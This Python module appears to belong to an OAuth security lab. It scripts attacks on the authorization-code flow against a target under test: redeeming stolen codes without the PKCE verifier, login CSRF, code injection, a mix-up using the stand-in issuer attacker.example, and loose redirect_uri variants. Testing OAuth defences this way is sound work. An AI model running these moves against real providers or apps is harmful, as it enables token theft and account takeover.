"""Attacks on the code flow: a stolen code (1), login CSRF (2), code injection (3), mix-up (7) and a loose
redirect_uri (10)."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlencode, urlsplit

from oauth.http import ProviderError, Reply

from . import refusals
from .model import Prepared, Refusal, Target
from .runner import (
    Lab,
    Move,
    authorize_url,
    pkce_params,
    provider_refused_via_app,
    query_of,
    random_value,
    username_in,
)

FORM = "application/x-www-form-urlencoded"
MIXUP_ISSUER = "https://attacker.example"


def _signed_in_as(lab: Lab, who: str, reply: Reply) -> str:
    """What an accepted callback won: whom this app now signs `who`'s browser in as (asked of /api/session)."""
    session = lab.visit(who, "GET /api/session: who is signed in here?", lab.target.app_url + "/api/session")
    try:
        name = username_in(session.json().get("id_token_claims"))
    except ProviderError:
        name = "someone"
    return f"This app answered HTTP {reply.status} and the victim's browser is now signed in as {name}."


# -- 1: a stolen code, redeemed without the verifier --------------------------------------------------------
def _victim_code(lab: Lab, key: str) -> None:
    """The victim's browser-only app signs in (PKCE); the attacker copies the code off the redirect."""
    lab.values[key] = lab.public_code("victim")[0]
    lab.values.setdefault("attacker_verifier", random_value())


def _redeem_stolen(key: str, verifier: bool) -> Move:
    def prepare(lab: Lab) -> Prepared:
        form = {
            "grant_type": "authorization_code",
            "client_id": lab.target.public_client_id,
            "code": lab.values[key],
            "redirect_uri": lab.target.spa_callback,
        }
        if verifier:
            form["code_verifier"] = lab.values["attacker_verifier"]
        title = (
            "Redeem the stolen code with a code_verifier of his own"
            if verifier
            else "Redeem the stolen code without a code_verifier"
        )
        return Prepared(
            title, "attacker", "provider", "POST", lab.target.token_endpoint, (("Content-Type", FORM),), urlencode(form)
        )

    def won(lab: Lab, reply: Reply) -> str:
        tokens = reply.json()
        if isinstance(tokens.get("refresh_token"), str):
            lab.held.append(["public", tokens["refresh_token"]])
        return (
            f"The token endpoint answered HTTP 200 with {', '.join(sorted(tokens))}: the attacker holds "
            f"{lab.target.victim_name}'s tokens."
        )

    return Move(
        setup=lambda lab: _victim_code(lab, key),
        prepare=prepare,
        read=lambda lab, reply: refusals.token_endpoint(reply, "pkce"),
        won=won,
    )


def stolen_code() -> list[Move]:
    return [_redeem_stolen("code_1", verifier=False), _redeem_stolen("code_2", verifier=True)]


def own_sign_in_url(target: Target, state: str) -> str:
    """Attack 1 with a real provider: where the user's own browser signs in, through the browser-only client
    (scope openid); the PKCE verifier is thrown away at once, as the attacker never has it."""
    return authorize_url(
        target,
        target.public_client_id,
        target.spa_callback,
        scope="openid",
        state=state,
        nonce=random_value(),
        **pkce_params(random_value()),
    )


def stolen_own_code() -> list[Move]:
    """With a real provider: the code of the user's own sign-in (the view captured it), without a verifier."""
    return [
        Move(
            None,
            _redeem_stolen("code_1", verifier=False).prepare,
            lambda lab, reply: refusals.token_endpoint(reply, "pkce"),
            lambda lab, reply: "The token endpoint answered HTTP 200: the attacker holds your tokens.",
        )
    ]


# -- 2 and 3: the attacker's code in the victim's callback -------------------------------------------------
def _attacker_code(lab: Lab) -> None:
    """The attacker starts a sign-in at this app and signs in as himself, stopping before his callback."""
    params, url = lab.start_sign_in("attacker")
    back = lab.sign_in("attacker", url, lab.target.callback)
    lab.values["attacker_code"] = query_of(back).get("code", "")
    lab.values["attacker_state"] = params.get("state", "")


def _both_start(lab: Lab) -> None:
    params, _ = lab.start_sign_in("victim")  # the victim has the provider's sign-in page open
    lab.values["victim_state"] = params.get("state", "")
    _attacker_code(lab)


def _injected(title: str, state_key: str, code_key: str, iss: str = "") -> Callable[[Lab], Prepared]:
    """A callback URL the attacker makes the victim's browser open."""

    def prepare(lab: Lab) -> Prepared:
        query = {"code": lab.values[code_key], "state": lab.values[state_key]}
        if iss:
            query["iss"] = iss
        return Prepared(title, "victim", "app", "GET", lab.target.callback + "?" + urlencode(query))

    return prepare


def _read_callback(lab: Lab, reply: Reply) -> Refusal | None:
    return provider_refused_via_app(lab, refusals.app_page(reply), "code exchange (this app, the victim's verifier)")


def login_csrf() -> list[Move]:
    return [
        Move(
            _both_start,
            _injected(
                "The victim's browser opens the attacker's callback: his code, a state it never started",
                "attacker_state",
                "attacker_code",
            ),
            _read_callback,
            lambda lab, reply: _signed_in_as(lab, "victim", reply),
        )
    ]


def code_injection() -> list[Move]:
    return [
        Move(
            _both_start,
            _injected(
                "The attacker's code injected into the victim's callback, with the victim's own state",
                "victim_state",
                "attacker_code",
            ),
            _read_callback,
            lambda lab, reply: _signed_in_as(lab, "victim", reply),
        )
    ]


# -- 7: mix-up ---------------------------------------------------------------------------------------------
def _victim_starts(lab: Lab) -> None:
    params, _ = lab.start_sign_in("victim")
    lab.values["victim_state"] = params.get("state", "")
    lab.values["mixup_code"] = "code-from-attacker-server-" + random_value()[:16]


def mix_up() -> list[Move]:
    return [
        Move(
            _victim_starts,
            _injected(
                "The attacker's server answers the victim's sign-in: its own code, its issuer in iss",
                "victim_state",
                "mixup_code",
                iss=MIXUP_ISSUER,
            ),
            _read_callback,
            lambda lab, reply: _signed_in_as(lab, "victim", reply),
        )
    ]


# -- 10: a redirect_uri that is almost the registered one ---------------------------------------------------
def _other_port(url: str) -> str:
    parts = urlsplit(url)
    port = (parts.port or (443 if parts.scheme == "https" else 80)) + 1
    return f"{parts.scheme}://{parts.hostname}:{port}{parts.path}"


REDIRECT_VARIANTS = (
    ("a path appended (the registered URI only a prefix of it)", lambda callback: callback + "/attacker"),
    ("a trailing slash", lambda callback: callback + "/"),
    ("another port of the same host", _other_port),
)


def _loose_redirect(label: str, change: Callable[[str], str]) -> Move:
    def prepare(lab: Lab) -> Prepared:
        url = authorize_url(
            lab.target,
            lab.target.client_id,
            change(lab.target.callback),
            state=lab.values["state"],
            **pkce_params(lab.values["verifier"]),
        )
        return Prepared(f"The attacker's link: redirect_uri with {label}", "victim", "provider", "GET", url)

    def setup(lab: Lab) -> None:
        lab.values.setdefault("state", random_value())
        lab.values.setdefault("verifier", random_value())

    def won(lab: Lab, reply: Reply) -> str:
        where = urlsplit(reply.headers.get("Location", ""))
        return (
            f"The provider answered HTTP {reply.status} towards {where.scheme}://{where.netloc}{where.path}: "
            "the victim's code would follow it there."
        )

    return Move(
        setup,
        prepare,
        lambda lab, reply: refusals.authorize(reply, change(lab.target.callback)),
        won,
    )


def open_redirect() -> list[Move]:
    return [_loose_redirect(label, change) for label, change in REDIRECT_VARIANTS]
